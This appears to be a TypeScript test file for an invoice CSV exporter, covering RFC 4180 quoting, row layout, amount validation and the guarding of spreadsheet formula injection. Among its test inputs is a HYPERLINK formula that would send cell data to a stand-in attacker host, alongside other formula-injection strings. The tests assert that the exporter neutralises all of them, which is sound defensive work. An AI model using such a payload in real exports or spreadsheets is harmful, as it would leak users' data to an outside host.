import { InvoiceDocumentLine } from './invoice-document';
import { InvoiceCsvRow, invoicesCsv } from './invoices-csv.export';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        value += text.slice(i, q);
        i = q + 1;
        if (text[i] !== '"') break;
        value += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      value = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (/["\r\n]/.test(value)) throw new Error(`unquoted special character in ${JSON.stringify(value)}`);
      i += value.length;
    }
    record.push(value);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (record.length > 0) throw new Error('last record without CRLF');
  return records;
}

function line(n: number, pool: string, amount: string, more: Partial<InvoiceDocumentLine> = {}): InvoiceDocumentLine {
  return { n, pool, kind: 'ram', period: '2026-10', adjustment: false, quantity: '2.5', unit: 'GiB-month', unitPrice: '5.00', amount, ...more };
}

function row(number: string, customer: string, lines: InvoiceDocumentLine[], subtotal: string, tax: string, total: string): InvoiceCsvRow {
  return {
    invoice: {
      number,
      issuedAt: '2026-11-01T02:00:00.000Z',
      period: '2026-10',
      timeZone: 'UTC',
      periodStart: '2026-10-01T00:00:00.000Z',
      periodEnd: '2026-11-01T00:00:00.000Z',
      currency: 'AUD',
      taxRate: '0.10',
      subtotal,
      tax,
      total,
      customerId: `cust-${number}`,
      customer: { name: customer, email: null },
    },
    lines,
  };
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

const rows = [
  row('INV-2026-000001', 'Smith, "Bob" & Co', [line(1, 'web', '12.50'), line(2, 'multi\nline, "pool"', '7.50', { kind: 'disk' })], '20.00', '2.00', '22.00'),
  row(
    'INV-2026-000002',
    '+61 3 9000 0000',
    [
      line(1, HYPERLINK, '10.00'),
      line(2, '-4.10', '-4.10', { kind: 'transfer-overage', adjustment: true, period: '2026-09', quantity: '-41', unit: 'GB', unitPrice: '0.10' }),
      line(3, '@SUM(A1:A9)', '1.00'),
    ],
    '6.90',
    '0.69',
    '7.59',
  ),
  row('INV-2026-000003', 'Quiet', [], '0.00', '0.00', '0.00'),
];

describe('invoicesCsv', () => {
  const csv = invoicesCsv(rows);
  const [header, ...records] = parseCsv(csv);
  const col = (name: string) => header!.indexOf(name);
  const cell = (r: number, name: string) => records[r]![col(name)];

  it('has a header and one row per line, every row as wide as the header, CRLF line ends', () => {
    expect(header).toEqual(expect.arrayContaining(['invoice_number', 'customer_id', 'customer_name', 'period', 'currency', 'line', 'pool', 'kind', 'amount', 'invoice_subtotal', 'invoice_tax', 'invoice_total']));
    expect(records.map((r) => `${r[col('invoice_number')]}#${r[col('line')]}`)).toEqual([
      'INV-2026-000001#1',
      'INV-2026-000001#2',
      'INV-2026-000002#1',
      'INV-2026-000002#2',
      'INV-2026-000002#3',
      'INV-2026-000003#',
    ]);
    for (const r of records) expect(r).toHaveLength(header!.length);
    expect(csv.endsWith('\r\n')).toBe(true); // and parseCsv accepts no other record end
  });

  it('quotes commas, quotes and newlines (RFC 4180) and reads back exactly', () => {
    expect(csv).toContain('"Smith, ""Bob"" & Co"');
    expect(csv).toContain('"multi\nline, ""pool"""');
    expect(cell(0, 'customer_name')).toBe('Smith, "Bob" & Co');
    expect(cell(1, 'pool')).toBe('multi\nline, "pool"');
  });

  it('repeats the invoice number, customer, period, currency and totals on each line', () => {
    for (const r of [2, 3, 4]) {
      expect([cell(r, 'invoice_number'), cell(r, 'customer_id'), cell(r, 'period'), cell(r, 'currency')]).toEqual(['INV-2026-000002', 'cust-INV-2026-000002', '2026-10', 'AUD']);
      expect([cell(r, 'invoice_subtotal'), cell(r, 'tax_rate'), cell(r, 'invoice_tax'), cell(r, 'invoice_total')]).toEqual(['6.90', '0.10', '0.69', '7.59']);
    }
    expect([cell(3, 'kind'), cell(3, 'description'), cell(3, 'line_period'), cell(3, 'adjustment')]).toEqual([
      'transfer-overage',
      'Transfer beyond allowance, adjustment for 2026-09',
      '2026-09',
      'true',
    ]);
  });

  it('guards text that a spreadsheet would run as a formula, but leaves negative amounts as numbers', () => {
    expect(cell(2, 'pool')).toBe(`'${HYPERLINK}`);
    expect(cell(2, 'customer_name')).toBe(`'+61 3 9000 0000`);
    expect(cell(4, 'pool')).toBe(`'@SUM(A1:A9)`);
    // A pool named like a number is still a name: guarded. The amount column is carve's own decimal: not.
    expect(cell(3, 'pool')).toBe(`'-4.10`);
    expect([cell(3, 'amount'), cell(3, 'quantity'), cell(3, 'unit_price')]).toEqual(['-4.10', '-41', '0.10']);
    expect(invoicesCsv([row('INV-1', ' =1+1', [], '0.00', '0.00', '0.00')])).toContain(`,' =1+1,`);
    expect(invoicesCsv([row('INV-1', '＝1+1', [], '0.00', '0.00', '0.00')])).toContain(`,'＝1+1,`);
  });

  it('keeps an invoice without lines as one row, so no invoice number goes missing', () => {
    expect([cell(5, 'invoice_number'), cell(5, 'line'), cell(5, 'pool'), cell(5, 'amount'), cell(5, 'invoice_total')]).toEqual(['INV-2026-000003', '', '', '', '0.00']);
  });

  it('refuses amounts that are not plain decimals with the currency digits, or that do not add up', () => {
    expect(() => invoicesCsv([row('INV-1', 'a', [line(1, 'p', '=1+1')], '0.00', '0.00', '0.00')])).toThrow(/decimal string/);
    expect(() => invoicesCsv([row('INV-1', 'a', [line(1, 'p', '1.5')], '1.50', '0.00', '1.50')])).toThrow(/2 decimal digits for AUD/);
    expect(() => invoicesCsv([row('INV-1', 'a', [line(1, 'p', '1.50')], '1.00', '0.00', '1.00')])).toThrow(/not the subtotal/);
  });
});
